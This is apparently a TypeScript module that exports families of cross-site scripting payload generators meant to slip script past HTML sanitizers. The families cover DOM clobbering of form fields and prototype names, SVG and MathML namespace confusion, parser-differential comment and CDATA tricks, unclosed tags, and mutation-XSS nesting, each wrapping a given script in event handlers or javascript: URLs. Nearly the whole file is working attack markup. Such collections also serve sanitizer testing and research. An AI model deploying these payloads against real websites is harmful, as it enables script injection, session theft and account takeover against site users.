import type { Family } from './payload.ts'

/** Elements whose content is text in one place and elements in another. */
const texts = ['style', 'xmp', 'noscript', 'iframe', 'noembed', 'noframes', 'title', 'textarea', 'script'] as const
const image = (script: string) => `<img src=y onerror="${script}">`
const plain = (script: string) => `<img src=y onerror=${script}>`
const coded = (script: string) => `&lt;img src=y onerror=${script}&gt;`

/** Names of what a cleaner asks of an element, taken by a field of a form. */
const taken = [
  ...[
    'attributes',
    'nodeName',
    'childNodes',
    'parentNode',
    'firstChild',
    'nextSibling',
    'removeAttribute',
    'setAttribute',
  ],
  ...[
    'namespaceURI',
    'insertBefore',
    'hasChildNodes',
    'textContent',
    'removeChild',
    'ownerDocument',
    'content',
    'nodeType',
  ],
]
const prototypes = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'defaultView']

/** What two parsers, or two readings by one parser, take for different things: the known ways past cleaners of HTML. */
export const mutating: Readonly<Record<string, Family>> = {
  'names that are taken': [
    ...taken.map(
      (name): Family[number] =>
        script =>
          `<form tabindex=0 onfocus="${script}"><input name=${name}></form>`,
    ),
    ...prototypes.map(
      (name): Family[number] =>
        script =>
          `<a id=${name}></a><a id=${name} name=x href=z:y>读</a><x-${name.replaceAll('_', '').toLowerCase()} ${name}=1>${image(script)}`,
    ),
    script => `<img name=body><form id=document><img name=implementation>${image(script)}</form>`,
    script => `<form id=createElement><output name=cookie>${image(script)}</output></form>`,
  ],
  foreign: [
    script => `<svg><animate onbegin="${script}" attributeName=x dur=1s /></svg>`,
    script => `<svg><set onbegin="${script}" attributeName=x /></svg>`,
    script => `<svg><animateTransform onbegin="${script}" attributeName=transform dur=1s /></svg>`,
    script => `<svg><animateMotion onbegin="${script}" dur=1s /></svg>`,
    script => `<svg><animate onend="${script}" attributeName=x dur=1ms /></svg>`,
    script => `<svg><image href=y onerror="${script}" /></svg>`,
    script => `<svg><foreignObject>${image(script)}</foreignObject></svg>`,
    script => `<svg><foreignObject><iframe src="javascript:${script}"></iframe></foreignObject></svg>`,
    script => `<svg><desc>${image(script)}</desc></svg>`,
    script => `<svg><title>${image(script)}</title></svg>`,
    script => `<svg><g onload="${script}"><svg onload="${script}" /></g></svg>`,
    script => `<svg/onload=${script}>`,
    script => `<svg\nonload\n=\n"${script}">`,
    script => `<SVG ONLOAD="${script}" XMLNS="http://www.w3.org/2000/svg" />`,
    script => `<svg><style><img src=y onerror="${script}"></style></svg>`,
    script => `<svg><p>${image(script)}</p></svg>`,
    script => `<math><mtext>${image(script)}</mtext></math>`,
    script => `<math><mi>${image(script)}</mi></math>`,
    script => `<math><annotation-xml encoding="text/html">${image(script)}</annotation-xml></math>`,
    script =>
      `<math><annotation-xml encoding="application/xhtml+xml"><svg onload="${script}" /></annotation-xml></math>`,
    script => `<math><style>${image(script)}</style></math>`,
    script => `<math onclick="${script}"><mn>1</mn></math>`,
    script => `<math><maction actiontype=toggle onmouseover="${script}"><mn>1</mn></maction></math>`,
    script =>
      `<svg><use onload="${script}" href=#a /><image onload="${script}" href="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" /></svg>`,
  ],
  'parsers at odds': [
    ...texts.map(
      (tag): Family[number] =>
        script =>
          `<${tag}><p title="</${tag}>${plain(script)}">读</p></${tag}>`,
    ),
    script => `<!-->${image(script)}-->`,
    script => `<!--->${image(script)}-->`,
    script => `<!--a--!>${image(script)}-->`,
    script => `<!-- <!-- -->${image(script)}-->`,
    script => `<![CDATA[>${image(script)}]]>`,
    script => `<?xml-stylesheet >${image(script)} ?>`,
    script => `<!DOCTYPE x [<!ENTITY y ">${plain(script)}">]>`,
    script => `</ >${image(script)}`,
    script => `<svg><![CDATA[</svg>]]>${image(script)}</svg>`,
    script => `<!--[if gte IE 4]>-->${image(script)}<!--<![endif]-->`,
    script => `<comment>${image(script)}</comment>`,
    script => `<a title='"'>${image(script)}</a>`,
    script => `<div ${'x '.repeat(400)}>${image(script)}</div>`,
    script => `${'<b>'.repeat(1200)}${image(script)}`,
    script => `<p>${'\u202E\u0000\uFEFF'}${image(script)}`,
  ],
  'left open': [
    script => `<img src=y onerror=${script} `,
    script => `<svg onload=${script}//`,
    script => `<body onload="${script}" x='`,
    script => `<iframe src="javascript:${script}" `,
    script => `<video><source onerror="${script}" src=y`,
    script => `<details open ontoggle=${script} x`,
    script => `<input autofocus onfocus=${script} <`,
  ],
  'written twice': [
    ...(['svg', 'math'] as const).flatMap(root =>
      texts.map(
        (tag): Family[number] =>
          script =>
            `<${root}></p><${tag}><a id="</${tag}>${plain(script)}">`,
      ),
    ),
    ...texts.map(
      (tag): Family[number] =>
        script =>
          `<svg><p></p><${tag}><g title="</${tag}>${plain(script)}"></${tag}></svg>`,
    ),
    script => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${coded(script)}">`,
    script => `<math><mtext><table><mglyph><style><math>${plain(script)}`,
    script => `<form><math><mtext></form><form><mglyph><style></math>${plain(script)}`,
    script =>
      `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${plain(script)}"></style></h1>`,
    script => `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea>${plain(script)}">`,
    script => `<math><mtext><table><malignmark><style><![CDATA[</style>${plain(script)}]]>`,
    script => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${plain(script)}">`,
    script => `<svg><title><style><g title="</style>${plain(script)}">`,
    script => `<svg></br><style><a title="</style>${plain(script)}">`,
    script => `<math></br><style><a title="</style>${plain(script)}">`,
    script => `<x/><title>&lt;/title&gt;${coded(script)}`,
    script => `<xmp>&lt;/xmp&gt;${coded(script)}</xmp><p title="</xmp>${plain(script)}">`,
    script => `<noscript><style></noscript>${plain(script)}</style></noscript>`,
    script => `<noembed><p id="</noembed>${plain(script)}">`,
    script => `<select><template><style><!--</style><a rel="--></style></template></select>${plain(script)}">`,
    script =>
      `<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style>${plain(script)}"></a></style></svg></caption></table>`,
    script =>
      `${'<div>'.repeat(506)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style>${plain(script)}"></a></style></svg></caption></table>`,
    script =>
      `${'<r>'.repeat(255)}<svg><annotation-xml><foreignObject><style><!--</style><p id="--></style>${plain(script)}">`,
    script => `<svg><annotation-xml encoding="text/html"><style><a id="</style>${plain(script)}">`,
    script => `<svg><foreignObject><math><mi><mglyph><style><a id="</style>${plain(script)}">`,
  ],
}
